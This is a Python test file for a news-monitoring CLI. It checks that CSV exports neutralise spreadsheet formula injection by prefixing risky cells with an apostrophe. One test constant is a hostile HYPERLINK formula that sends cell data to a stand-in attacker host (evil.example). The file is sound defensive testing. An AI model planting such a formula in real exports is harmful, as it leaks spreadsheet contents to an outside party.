"""CSV written by the CLI cannot smuggle a spreadsheet formula: a cell that starts like one
(``=``, ``+``, ``-``, ``@``, tab, CR) — an outlet name or quote from an article — is written
as text with a leading apostrophe, as ``peacewatch export`` does (``report.exports.csv_cell``)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from peacewatch import api
from peacewatch.cli import app
from peacewatch.cli.analysis import _csv
from peacewatch.cli.articles import _events_csv
from peacewatch.store import open_store

pytestmark = pytest.mark.usefixtures("isolated_env")

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_analysis_csv_neutralises_formulas(capsys: pytest.CaptureFixture[str]) -> None:
    _csv(["a", "b"], [[HOSTILE, "+1"], ["-2+3", "@SUM(A1)"], [None, 5], [-3, "plain"]])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["a", "b"], ["'" + HOSTILE, "'+1"], ["'-2+3", "'@SUM(A1)"], ["", "5"], ["-3", "plain"]]


def test_events_csv_neutralises_an_outlet_named_like_a_formula(
    tmp_path: Path,
    strike_reports: Callable[..., list[dict[str, Any]]],
    jsonl_file: Callable[..., Path],
    runner: CliRunner,
) -> None:
    records = strike_reports(3)
    for r in records:
        r["source"] = HOSTILE
    db = str(tmp_path / "hostile.db")
    api.ingest([str(jsonl_file(records))], db)
    result = runner.invoke(app, ["events", "--format", "csv", "--db", db])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and {r["source"] for r in rows} == {"'" + HOSTILE}
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    with open_store(db, create=False) as store:  # the function itself, on what was stored
        text = _events_csv(store.events())
    assert text.count("'" + HOSTILE.replace('"', '""')) == len(rows)
